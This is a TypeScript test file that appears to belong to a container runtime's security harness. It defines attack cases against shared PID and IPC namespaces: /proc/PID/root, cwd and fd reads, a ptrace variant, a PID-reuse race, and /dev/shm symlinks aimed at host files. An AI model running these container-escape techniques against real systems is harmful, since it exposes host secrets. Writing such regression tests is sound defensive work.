/**
 * A container joins another's PID or IPC namespace, and that other lies in wait: the process that becomes the program
 * is among its own for some milliseconds, with the host's files at hand.
 */
import type { AttackCase, Stage } from '../case.ts';

const TRIES = 8;
/** By which the process is known. */
const DONOR = '98764';
const OWN = ['--userns=host'];

/** What a shell does with each `$p`, a /proc/PID of another process. */
const lurking = (body: string): string => `
echo watching
while :; do
  for p in /proc/[0-9]*; do
    [ $p = /proc/1 ] || [ $p = /proc/self ] && continue
    { ${body} ; } 2>/dev/null
  done
done`;

/** The lurking container's output while others join it; undefined where none could. */
async function whileJoined(
  stage: Stage,
  script: string,
  flags: readonly string[],
): Promise<string | undefined> {
  const image = await stage.image({ files: {} });
  const name = 'lurker';
  const begun = await stage.minidock(
    'run',
    '-d',
    '--name',
    name,
    ...OWN,
    ...flags,
    image,
    'sh',
    '-c',
    script,
  );
  if (begun.exitCode !== 0) throw new Error(`the lurker did not start: ${begun.stderr}`);
  try {
    let joined = 0;
    for (let i = 0; i < TRIES; i += 1) {
      const result = await stage.minidock('run', '--rm', ...OWN, '--pid', `container:${name}`, image, 'true');
      if (result.stderr.includes('cannot join the PID namespace')) continue;
      // A lurker may kill what joins it; that is its own loss.
      if (![0, 125, 137].includes(result.exitCode)) throw new Error(`unexpected: ${result.stderr}`);
      joined += 1;
    }
    const { stdout } = await stage.minidock('logs', name);
    return joined === 0 ? undefined : /^GOT.*/m.exec(stdout)?.[0];
  } finally {
    await stage.minidock('rm', '-f', name);
  }
}

const pidCase = (
  name: string,
  story: string,
  body: (secret: string) => string,
  flags: readonly string[] = [],
): AttackCase => ({
  name: `shared-pid-${name}`,
  story,
  cves: ['CVE-2016-9962'],
  guard: true,
  ...(name === 'root' ? { short: true } : {}),
  attack: async (stage) => whileJoined(stage, lurking(body(stage.secret().path)), flags),
});

const readRoot = (secret: string): string =>
  `cat $p/root${secret} && echo "GOT the host's file through $p/root"`;

export const sharedNamespaceCases: readonly AttackCase[] = [
  pidCase('root', 'reads a file of the host through /proc/PID/root of the process that joins.', readRoot),
  pidCase(
    'cwd',
    'leaves the working directory of the process that joins.',
    (secret) => `cat $p/cwd${secret} && echo GOT`,
  ),
  pidCase(
    'descriptors',
    'opens the files that the process that joins has open.',
    (secret) => `for f in $p/fd/*; do cat "$f/../../..${secret}" && echo "GOT $f"; done`,
  ),
  pidCase(
    'memory',
    'opens the memory of the process that joins.',
    () => `grep -q minidock $p/maps && echo "GOT $p/maps"`,
  ),
  pidCase('tracer', 'the same with CAP_SYS_PTRACE, which leads anywhere.', readRoot, [
    '--cap-add',
    'SYS_PTRACE',
  ]),
  {
    name: 'shared-pid-of-one-that-restarts',
    story:
      'ends and begins again while another container joins it, so that its number becomes another process’s.',
    guard: true,
    async attack(stage) {
      const image = await stage.image({ files: {} });
      const donor = ['run', '-d', '--name', 'donor', ...OWN, image, '/bin/sleep', DONOR];
      const begun = await stage.minidock(...donor);
      if (begun.exitCode !== 0) throw new Error(begun.stderr);
      let joined = 0;
      try {
        for (let n = 0; n < TRIES || (joined === 0 && n < 5 * TRIES); n++) {
          const join = [
            'run',
            '--rm',
            ...OWN,
            '--pid',
            'container:donor',
            image,
            '/bin/cat',
            '/proc/1/cmdline',
          ];
          // After more and more other commands: at first nobody gets in before it ends, at last everybody does.
          const again = (async () => {
            for (let before = n % TRIES; before > 0; before--) await stage.minidock('ps');
            return await stage.minidock('restart', '-t', '0', 'donor');
          })();
          const [{ exitCode, stdout }] = await Promise.all([stage.minidock(...join), again]);
          if (exitCode !== 0) continue;
          joined += 1;
          if (!stdout.includes(DONOR)) return `the first process there is ${stdout.replaceAll('\0', ' ')}`;
        }
      } finally {
        await stage.minidock('rm', '-f', 'donor');
      }
      if (joined === 0) throw new Error('nobody ever joined');
      return undefined;
    },
  },
  {
    name: 'shared-shm-links',
    story: 'fills the shared /dev/shm with links to the host’s files before another container joins it.',
    guard: true,
    async attack(stage) {
      const secret = stage.secret();
      const image = await stage.image({ files: {} });
      const fill = `ln -s ${secret.path} /dev/shm/x; ln -s / /dev/shm/root; echo ready; sleep 1000`;
      const donor = ['-d', '--name', 'donor', ...OWN, '--ipc', 'shareable'];
      const begun = await stage.minidock('run', ...donor, image, 'sh', '-c', fill);
      if (begun.exitCode !== 0) throw new Error(`the donor did not start: ${begun.stderr}`);
      try {
        const join = ['--rm', ...OWN, '--ipc', 'container:donor'];
        const { stdout, stderr } = await stage.minidock(
          'run',
          ...join,
          image,
          'sh',
          '-c',
          `cat /dev/shm/x /dev/shm/root${secret.path}; echo done`,
        );
        if (!stdout.includes('done')) throw new Error(`the guest did not run: ${stderr}`);
        return stdout.includes(secret.text) || secret.changed() ? 'the host’s file' : undefined;
      } finally {
        await stage.minidock('rm', '-f', 'donor');
      }
    },
  },
];
